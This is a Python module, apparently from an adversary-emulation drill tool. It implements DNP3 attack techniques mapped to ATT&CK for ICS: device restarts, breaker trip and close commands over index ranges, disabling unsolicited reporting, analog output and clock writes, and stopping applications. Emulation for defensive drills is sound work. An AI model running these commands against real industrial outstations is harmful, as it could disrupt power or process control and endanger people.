"""DNP3 techniques: polls, restarts, unsolicited-reporting switches, controls, time, application.

Covers the abilities of MITRE Caldera for OT's DNP3 plugin (read, integrity poll, enable and
disable unsolicited messages, cold and warm restart, breaker controls by select-before-operate
and direct operate, over one index or a range, repeated) plus analog output commands (g41),
time writes (g50v1), stop application and initialize data.

The attacker is a DNP3 master made of Interlock's codec (:mod:`interlock.protocols.dnp3`): link
frames, transport segments and application fragments are built by hand and sent over a plain
asyncio stream, not through dnp3py's master, so that every octet sent is known (the Action's
frames are the link frames on the wire) and unusual requests (restarts, stop application) are
possible without a library's state machine in the way.
"""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass

from interlock.drill.techniques.base import (
    CONNECTION_CLOSED,
    MALFORMED_RESPONSE,
    NO_RESPONSE,
    OK,
    Context,
    Link,
    Technique,
    family,
    repeat,
    summarize,
)
from interlock.protocols.base import Malformed
from interlock.protocols.dnp3 import (
    ApplicationRequest,
    ApplicationResponse,
    ObjectHeader,
    build,
    parse_fragment,
    parse_frame,
    parse_segment,
)
from interlock.protocols.dnp3.fields import (
    HEADER_SIZE,
    IIN,
    CommandStatus,
    FunctionCode,
    OpType,
    PrimaryFunction,
    TripCloseCode,
)
from interlock.protocols.dnp3.link import frame_size
from interlock.protocols.dnp3.stream import Reassembler, Segmenter

PROTOCOL = "dnp3"
# IIN2 bits that mean the outstation refused the request (4.2.2.6)
IIN_ERRORS = (IIN.NO_FUNC_CODE_SUPPORT, IIN.OBJECT_UNKNOWN, IIN.PARAMETER_ERROR, IIN.ALREADY_EXECUTING)
ALL_OBJECTS = 0x06  # qualifier: no range, all points
COUNT_INDEX_16 = 0x28  # qualifier: 2-octet count, 2-octet index prefix (controls)
CONTROL_CODES = {
    "latch_on": OpType.LATCH_ON, "latch_off": OpType.LATCH_OFF,
    "pulse_on": OpType.PULSE_ON, "pulse_off": OpType.PULSE_OFF,
    "close": OpType.PULSE_ON | TripCloseCode.CLOSE << 6, "trip": OpType.PULSE_ON | TripCloseCode.TRIP << 6,
    "nul": OpType.NUL,
}


@dataclass(frozen=True)
class Reply:
    outcome: str
    response: ApplicationResponse | None = None


def class_headers(classes: tuple[int, ...]) -> tuple[ObjectHeader, ...]:
    """Class 0..3 data objects, g60v1..g60v4, all points."""
    for c in classes:
        if not 0 <= c <= 3:
            raise ValueError(f"DNP3 classes are 0..3, not {c}")
    return tuple(ObjectHeader(60, c + 1, ALL_OBJECTS) for c in classes)


def outcome_of(response: ApplicationResponse) -> str:
    """``ok``, the IIN2 error bits (``iin NO_FUNC_CODE_SUPPORT``), or a control's status."""
    errors = [flag.name for flag in IIN_ERRORS if response.iin & flag]
    if errors:
        return "iin " + "|".join(str(e) for e in errors)
    for h in response.headers:
        if h.group in (12, 41) and h.objects:  # controls echo their objects with a status
            status = int(h.objects[0][-1])
            if status:
                try:
                    return f"status {CommandStatus(status).name}"
                except ValueError:
                    return f"status {status}"
    return OK


class Dnp3Link(Link):
    """A DNP3 master on one TCP connection: link framing, transport segmentation, application
    sequence numbers, and confirmations of responses that ask for one."""

    def __init__(self, ctx: Context) -> None:
        super().__init__(ctx)
        self.segmenter = Segmenter(master=ctx.as_int("master"), outstation=ctx.unit())
        self.app_seq = 0
        self.unsolicited = 0

    async def send_fragment(self, fragment: ApplicationRequest, *, request: bool = True) -> None:
        assert self.stream is not None
        for k, frame in enumerate(self.segmenter.frames(build(fragment))):
            await self.stream.send(frame, request=request and k == 0)

    async def read_fragment(self, wait: float | None) -> ApplicationResponse | ApplicationRequest | Malformed:
        """Link frames until a whole application fragment (FIR..FIN) has arrived."""
        assert self.stream is not None
        reassembler = Reassembler()
        while True:
            head = await self.stream.recv(HEADER_SIZE, wait)
            rest = await self.stream.recv(frame_size(head[2]) - HEADER_SIZE, wait)
            frame = parse_frame(head + rest)
            if isinstance(frame, Malformed):
                return frame
            if not frame.prm or frame.function not in (PrimaryFunction.UNCONFIRMED_USER_DATA,
                                                       PrimaryFunction.CONFIRMED_USER_DATA):
                continue  # link-layer housekeeping (ACK, link status) carries no fragment
            segment = parse_segment(frame.user_data)
            if isinstance(segment, Malformed):
                return segment
            fragment = reassembler.add(segment)
            if fragment is not None:
                return parse_fragment(fragment)

    async def request(self, function: FunctionCode, headers: tuple[ObjectHeader, ...] = (),
                      wait: float | None = None) -> Reply:
        """Send one request; wait for its (possibly multi-fragment) solicited response."""
        if self.stream is None:
            self.stream = await self.ctx.connect()
        seq = self.app_seq
        self.app_seq = (self.app_seq + 1) & 0x0F
        await self.send_fragment(ApplicationRequest(function, seq=seq, headers=headers))
        if function == FunctionCode.DIRECT_OPERATE_NR:
            return Reply(OK)  # "no response" is the function's contract
        collected: list[ApplicationResponse] = []
        try:
            while True:
                fragment = await self.read_fragment(wait)
                if isinstance(fragment, Malformed):
                    return Reply(MALFORMED_RESPONSE)
                if not isinstance(fragment, ApplicationResponse):
                    continue
                self.ctx.responses += 1
                if fragment.con:  # the outstation waits for this before it sends anything else
                    await self.send_fragment(ApplicationRequest(
                        FunctionCode.CONFIRM, seq=fragment.seq, uns=fragment.uns), request=False)
                if fragment.uns or fragment.seq != seq:
                    self.unsolicited += fragment.uns
                    continue
                collected.append(fragment)
                if fragment.fin:
                    break
        except TimeoutError:
            return Reply(NO_RESPONSE)
        except (asyncio.IncompleteReadError, ConnectionError):
            await self.close()
            return Reply(CONNECTION_CLOSED)
        headers_all = tuple(h for f in collected for h in f.headers)
        merged = ApplicationResponse(collected[-1].function, seq, collected[-1].iin, headers_all)
        return Reply(outcome_of(merged), merged)

    def report(self, detail: dict[str, object]) -> dict[str, object]:
        if self.unsolicited:
            detail["unsolicited_responses"] = self.unsolicited
        return detail


Body = Callable[[Context, Dnp3Link], Awaitable[tuple[str, dict[str, object]]]]


def points(response: ApplicationResponse | None) -> dict[str, dict[int, object]]:
    """Values by object label and index (``g30v1`` -> {0: 1234})."""
    out: dict[str, dict[int, object]] = {}
    if response is None:
        return out
    for h in response.headers:
        values = h.values
        if not values:
            continue
        if h.indexes is not None:
            indexes: list[int] = list(h.indexes)
        else:
            first = h.start or 0
            indexes = list(range(first, first + len(values)))
        table = out.setdefault(h.label, {})
        for i, v in zip(indexes, values, strict=False):
            table[i] = v
    return out


def _simple(function: FunctionCode, headers: Callable[[Context], tuple[ObjectHeader, ...]],
            report: Callable[[ApplicationResponse | None], dict[str, object]] | None = None) -> Body:
    """A body sending one request ``repeat`` times, ``interval_s`` apart."""
    async def body(ctx: Context, link: Dnp3Link) -> tuple[str, dict[str, object]]:
        replies = await repeat(ctx, lambda: link.request(function, headers(ctx)))
        reply, outcomes = replies[-1], [r.outcome for r in replies]
        detail: dict[str, object] = {"function": function.name, "outcomes": outcomes}
        if reply.response is not None:
            detail["iin"] = reply.response.iin
        if report is not None:
            detail.update(report(reply.response))
        return summarize(outcomes), detail
    return body


def _points_report(response: ApplicationResponse | None) -> dict[str, object]:
    return {"points": points(response)}


def _delay_report(response: ApplicationResponse | None) -> dict[str, object]:
    """The restart's time delay object: g52v1 in seconds, g52v2 in milliseconds."""
    for h in response.headers if response is not None else ():
        if h.group == 52 and h.values:
            value = int(h.values[0])
            return {"delay_ms": value * 1000 if h.variation == 1 else value, "delay_object": h.label}
    return {"delay_ms": None}


def _read_headers(ctx: Context) -> tuple[ObjectHeader, ...]:
    group, variation = ctx.as_int("group"), ctx.as_int("variation")
    if ctx.get("start") is None:
        return (ObjectHeader(group, variation, ALL_OBJECTS),)
    start = ctx.as_int("start")
    stop = start if ctx.get("stop") is None else ctx.as_int("stop")
    return (ObjectHeader(group, variation, 0x01, start=start, stop=stop),)  # 2-octet start-stop


def _indexes(ctx: Context) -> tuple[int, ...]:
    """``index``, or ``index``..``stop_index`` every ``step`` (Caldera's ranged abilities)."""
    first = ctx.as_int("index")
    if ctx.get("stop_index") is None:
        return (first,)
    return tuple(range(first, ctx.as_int("stop_index") + 1, max(1, ctx.as_int("step"))))


def _control_code(ctx: Context) -> int:
    op = ctx.get("op")
    if isinstance(op, str):
        try:
            return int(CONTROL_CODES[op.lower()])
        except KeyError:
            raise ValueError(f"{ctx.technique.id}: op {op!r}; use one of {', '.join(CONTROL_CODES)}"
                             " or a control code number") from None
    return ctx.as_int("op")


def _crob_header(ctx: Context) -> tuple[ObjectHeader, ...]:
    code, indexes = _control_code(ctx), _indexes(ctx)
    crob = (code, ctx.as_int("count"), ctx.as_int("on_ms"), ctx.as_int("off_ms"), 0)
    return (ObjectHeader(12, 1, COUNT_INDEX_16, count=len(indexes), indexes=indexes,
                         objects=tuple(crob for _ in indexes)),)


def _analog_header(ctx: Context) -> tuple[ObjectHeader, ...]:
    variation, indexes = ctx.as_int("variation"), _indexes(ctx)
    value: float | int = ctx.as_float("value") if variation in (3, 4) else ctx.as_int("value")
    return (ObjectHeader(41, variation, COUNT_INDEX_16, count=len(indexes), indexes=indexes,
                         objects=tuple((value, 0) for _ in indexes)),)


def _select_operate(headers: Callable[[Context], tuple[ObjectHeader, ...]]) -> Body:
    """SELECT then OPERATE with identical objects (the outstation checks they match)."""
    async def body(ctx: Context, link: Dnp3Link) -> tuple[str, dict[str, object]]:
        async def once() -> list[str]:
            objects = headers(ctx)
            selected = await link.request(FunctionCode.SELECT, objects)
            if selected.outcome != OK:
                return [selected.outcome]  # a refused select leaves nothing to operate
            return [selected.outcome, (await link.request(FunctionCode.OPERATE, objects)).outcome]

        outcomes = [outcome for run in await repeat(ctx, once) for outcome in run]
        return summarize(outcomes), {"indexes": list(_indexes(ctx)), "outcomes": outcomes}
    return body


def _time_header(ctx: Context) -> tuple[ObjectHeader, ...]:
    """g50v1 absolute time (ms since 1970), 1-octet count qualifier as A.23.1 requires."""
    if ctx.get("time_ms") is None:
        ms = int((ctx.now() + ctx.as_float("offset_s")) * 1000)
    else:
        ms = ctx.as_int("time_ms")
    return (ObjectHeader(50, 1, 0x07, count=1, objects=((ms,),)),)


def _classes(ctx: Context) -> tuple[ObjectHeader, ...]:
    return class_headers(ctx.as_ints("classes"))


COMMON: dict[str, object] = {"unit": None, "master": 1, "repeat": 1, "interval_s": 0.0}
CONTROL: dict[str, object] = {"index": 0, "stop_index": None, "step": 1, **COMMON}
_TABLE: list[tuple[str, tuple[str, ...], str, Mapping[str, object], Body]] = [
    ("dnp3.integrity_poll", ("T0861", "T0802"), "READ class 1, 2, 3 and 0 (g60v2-4, g60v1)", COMMON,
     _simple(FunctionCode.READ, lambda ctx: class_headers((1, 2, 3, 0)), _points_report)),
    ("dnp3.read_class", ("T0861", "T0802"), "READ of the given classes (g60)",
     {"classes": (0,), **COMMON}, _simple(FunctionCode.READ, _classes, _points_report)),
    ("dnp3.read", ("T0802", "T0861"), "READ of one group/variation, all points or start..stop",
     {"group": 1, "variation": 0, "start": None, "stop": None, **COMMON},
     _simple(FunctionCode.READ, _read_headers, _points_report)),
    ("dnp3.cold_restart", ("T0816",), "COLD_RESTART (FC 13): the answer carries the time delay",
     COMMON, _simple(FunctionCode.COLD_RESTART, lambda ctx: (), _delay_report)),
    ("dnp3.warm_restart", ("T0816",), "WARM_RESTART (FC 14)", COMMON,
     _simple(FunctionCode.WARM_RESTART, lambda ctx: (), _delay_report)),
    ("dnp3.disable_unsolicited", ("T0815", "T0878", "T0804"), "DISABLE_UNSOLICITED (FC 21) for "
     "event classes: the outstation stops reporting on its own", {"classes": (1, 2, 3), **COMMON},
     _simple(FunctionCode.DISABLE_UNSOLICITED, _classes)),
    ("dnp3.enable_unsolicited", ("T0802",), "ENABLE_UNSOLICITED (FC 20) for event classes",
     {"classes": (1, 2, 3), **COMMON}, _simple(FunctionCode.ENABLE_UNSOLICITED, _classes)),
    ("dnp3.direct_operate", ("T0855", "T0831"), "DIRECT_OPERATE of a CROB (g12v1) on one index "
     "or a range", {"op": "latch_on", "count": 1, "on_ms": 0, "off_ms": 0, **CONTROL},
     _simple(FunctionCode.DIRECT_OPERATE, _crob_header)),
    ("dnp3.select_operate", ("T0855", "T0831"), "SELECT then OPERATE of a CROB (g12v1)",
     {"op": "latch_on", "count": 1, "on_ms": 0, "off_ms": 0, **CONTROL}, _select_operate(_crob_header)),
    ("dnp3.direct_operate_analog", ("T0836", "T0855"), "DIRECT_OPERATE of an analog output (g41)",
     {"value": 0, "variation": 1, **CONTROL}, _simple(FunctionCode.DIRECT_OPERATE, _analog_header)),
    ("dnp3.write_time", ("T0836",), "WRITE of the outstation's clock (g50v1), now + offset_s or "
     "time_ms", {"time_ms": None, "offset_s": 0.0, **COMMON}, _simple(FunctionCode.WRITE, _time_header)),
    ("dnp3.stop_application", ("T0881", "T0816"), "STOP_APPL (FC 18) for all applications (g90v1)",
     COMMON, _simple(FunctionCode.STOP_APPL, lambda ctx: (ObjectHeader(90, 1, ALL_OBJECTS),))),
    ("dnp3.initialize_data", ("T0816", "T0836"), "INITIALIZE_DATA (FC 15): data back to initial "
     "values", COMMON, _simple(FunctionCode.INITIALIZE_DATA, lambda ctx: ())),
]

TECHNIQUES: tuple[Technique, ...] = family(PROTOCOL, Dnp3Link, _TABLE)
